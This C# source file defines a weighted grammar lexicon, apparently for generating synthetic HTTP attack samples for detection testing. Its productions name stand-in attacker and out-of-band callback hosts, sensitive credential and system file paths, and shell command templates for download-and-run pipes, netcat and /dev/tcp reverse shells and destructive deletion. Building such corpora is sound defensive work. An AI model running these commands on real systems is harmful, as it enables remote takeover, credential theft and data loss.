namespace Weir.Http.Corpus.Attacks;

/// <summary>Words that the grammars of all classes share: numbers, names, hosts, files and commands.</summary>
internal static class Lexicon
{
    public const string Text = """"
        §digit
        «#0-9»
        §letter
        «a¦b¦c¦d¦e¦f¦g¦h¦i¦j¦k¦l¦m¦n¦o¦p¦q¦r¦s¦t¦u¦v¦w¦x¦y¦z»
        §hexdigit
        «0¦1¦2¦3¦4¦5¦6¦7¦8¦9¦a¦b¦c¦d¦e¦f»
        §num
        5× 1
        3× «#0-9»
        2× «#10-99»
        «#100-9999»
        «#10000-999999»
        §rand
        «letter*3-8»
        «letter*2-5»«#0-99»
        «hexdigit*6-12»
        §word
        4× «admin¦test¦foo¦bar¦user¦a¦x¦abc¦hello¦id¦name¦value¦search¦item¦page¦data»
        2× «shoes¦summer¦book¦london¦john¦smith¦news¦blue¦phone¦paris¦hotel¦red¦cat¦dog»
        «rand»
        ¶ What stands in a field before an attack: names, streets, mail addresses, labels of buttons.
        §phrase
        2× «name1» «name1»
        «name1» «name1» «name1»
        «name1» de «name1»
        «word» «word»
        «word» «word» «word»
        «name1» «#1-199», «#1-20»«letter?»
        C/ «name1», «#1-199»
        «rand»@«word».«tld»
        «word».«rand»@«rand».«tld»
        «name1», «name1»
        «#1-99» «word» «name1»
        «rand»_«rand»
        «word»-«word»
        «word».«pdf¦txt¦jpg¦doc»
        «letter»«#1000-9999»
        §name1
        «rand→upper1»
        «word→upper1»
        §param
        4× «id¦q¦page¦file¦url¦name¦user¦search¦path¦cmd¦lang¦data¦redirect¦next¦template¦view¦cat¦item»
        «username¦password¦email¦token¦query¦filter¦sort¦order¦action¦dest¦target¦src¦doc¦folder¦include¦uri»
        «letter»
        §ip
        «#1-223».«#0-255».«#0-255».«#1-254»
        §privateip
        10.«#0-255».«#0-255».«#1-254»
        192.168.«#0-255».«#1-254»
        172.«#16-31».«#0-255».«#1-254»
        §tld
        6× com
        2× «net¦org¦io»
        «ru¦cn¦xyz¦me¦site¦top¦info¦de¦tk¦online¦live¦pro¦fun¦sh»
        §namedevil
        «evil¦attacker¦hacker¦bad¦malicious¦phish¦pwn¦exploit¦callback¦rogue¦listener¦steal»«¦-site¦server¦host¦«#1-99»».«com¦net¦org¦example¦«tld»»
        §oasthost
        «letter*4-10»«#1-999».«oast¦interact¦dnslog¦ceye¦canary¦collab¦burp¦bxss¦ssrf¦x»«¦-«letter*2-4»».«tld»
        «hexdigit*12-20».«oast¦interact¦dnslog¦ceye¦canary¦collaborator¦pingback»«¦.«letter*3-6»».«tld»
        §evilhost
        4× «namedevil»
        2× «ip»
        2× «oasthost»
        «letter*4-10».«tld»
        «privateip»
        §port
        «80¦443¦8080¦8000¦8443¦4444¦1337¦9001¦1234¦53¦8888¦31337»
        «#1024-65535»
        §evilurl
        4× «http¦https¦http»://«evilhost»«¦:«port»»/««rand»¦shell¦x¦a¦payload¦poc¦exploit¦test¦c¦p»«¦.«txt¦sh¦php¦xml¦dtd¦js¦html¦jar¦exe¦ps1¦py¦gif¦jsp»»
        «http¦https»://«evilhost»«¦:«port»»«¦/»
        «http¦https»://«evilhost»/?«letter»=«rand»

        §unixfile
        8× /etc/passwd
        2× /etc/shadow
        2× /etc/hosts
        /etc/«group¦issue¦motd¦hostname¦resolv.conf¦fstab¦crontab¦sudoers¦profile¦os-release¦ssh/sshd_config¦mysql/my.cnf¦my.cnf¦nginx/nginx.conf¦apache2/apache2.conf¦httpd/conf/httpd.conf¦php.ini¦services¦networks¦gshadow¦environment¦bash.bashrc¦exports¦inetd.conf»
        /proc/«self/environ¦self/cmdline¦self/status¦self/maps¦version¦cpuinfo¦self/fd/«#0-20»¦1/environ¦net/tcp¦net/arp¦mounts¦self/cwd/app.py¦self/root/etc/passwd¦sched_debug¦self/exe»
        /var/log/«apache2/access.log¦apache2/error.log¦nginx/access.log¦nginx/error.log¦auth.log¦syslog¦messages¦httpd/access_log¦httpd/error_log¦mail.log¦vsftpd.log¦secure¦lastlog¦wtmp¦mysql.log¦cron¦dmesg»
        /«home/«word»¦root»/.«bash_history¦ssh/id_rsa¦ssh/authorized_keys¦bashrc¦aws/credentials¦mysql_history¦netrc¦pgpass¦git-credentials¦kube/config¦docker/config.json¦profile¦viminfo»
        /var/www/«html/¦»«index.php¦config.php¦wp-config.php¦.htpasswd¦.env¦.htaccess¦«rand».php»
        /usr/local/«apache2/conf/httpd.conf¦etc/php.ini¦tomcat/conf/tomcat-users.xml¦nginx/conf/nginx.conf»
        /var/«run/secrets/kubernetes.io/serviceaccount/token¦spool/cron/crontabs/root¦mail/root¦lib/mysql/mysql/user.MYD¦backups/shadow.bak»
        /«flag¦flag.txt¦app/config.yml¦opt/«word»/conf/«word».xml¦boot.ini¦srv/«word»/.env»
        §winfile
        5× «c:¦C:»\windows\win.ini
        3× «c:¦C:»\boot.ini
        «c:¦C:»\windows\system32\«drivers\etc\hosts¦config\sam¦config\SYSTEM¦license.rtf¦eula.txt¦inetsrv\config\applicationHost.config¦cmd.exe»
        «c:¦C:»\«windows\system.ini¦winnt\win.ini¦windows\repair\sam¦windows\debug\NetSetup.log¦unattend.xml¦windows\panther\unattend.xml¦sysprep\sysprep.xml¦windows\php.ini¦autoexec.bat¦windows\WindowsUpdate.log»
        «c:¦C:¦d:»\«inetpub\wwwroot\web.config¦inetpub\logs\LogFiles\W3SVC1\u_ex«#100000-240000».log¦xampp\apache\conf\httpd.conf¦xampp\phpmyadmin\config.inc.php¦wamp\www\index.php¦Program Files\Apache Group\Apache\conf\httpd.conf¦Users\Administrator\Desktop\flag.txt¦Users\«word»\.ssh\id_rsa¦mysql\my.ini»

        ¶ Commands for languages that run one: short and common first.
        §shellcmd
        8× «id¦whoami¦ls¦uname -a¦pwd¦hostname¦ls -la¦ps aux¦env¦ifconfig¦w¦date»
        5× «cat¦cat¦cat¦head¦tail¦more¦less¦nl¦tac¦strings¦od -c» «unixfile»
        3× «ping -c «#1-10»¦nslookup¦dig¦host» ««oasthost»¦127.0.0.1¦«evilhost»»
        3× sleep «#1-30»
        3× «curl¦wget¦curl -s¦wget -q -O-¦curl -k¦wget -qO -» «evilurl»
        «curl¦wget -O -¦curl -fsSL» «evilurl»|«sh¦bash»
        2× «nc¦ncat¦netcat¦nc.traditional» «-e /bin/sh ¦-e /bin/bash ¦-c bash ¦»«evilhost» «port»
        «bash -i >& /dev/tcp/«evilhost»/«port» 0>&1¦bash -c 'bash -i >& /dev/tcp/«ip»/«port» 0>&1'¦sh -i >& /dev/udp/«ip»/«port» 0>&1¦rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc «ip» «port» >/tmp/f»
        «touch¦rm -rf¦chmod 777¦cat¦ls» /tmp/«rand»
        echo «rand»
        «echo «rand→b64»|base64 -d|sh¦find / -name «word»¦netstat -an¦crontab -l¦last¦arp -a¦ip a¦lsb_release -a¦mount¦df -h¦printenv¦getent passwd¦ss -tlnp¦history»
        «calc¦calc.exe¦notepad.exe¦dir¦ipconfig /all¦net user¦ver¦systeminfo¦tasklist¦type «winfile»»
        «php -r "system('id');"¦perl -e "system('id')"¦python«¦3» -c "import os;os.system('id')"¦ruby -e "exec 'id'"¦node -e "process.exit()"»
        xterm -display «ip»:1
        open -a Calculator
        §opencalc
        3× «shellcmd»
        «calc¦calc.exe¦open -a Calculator¦gnome-calculator¦touch /tmp/«rand»¦ping -c 3 «oasthost»»
        """";
}
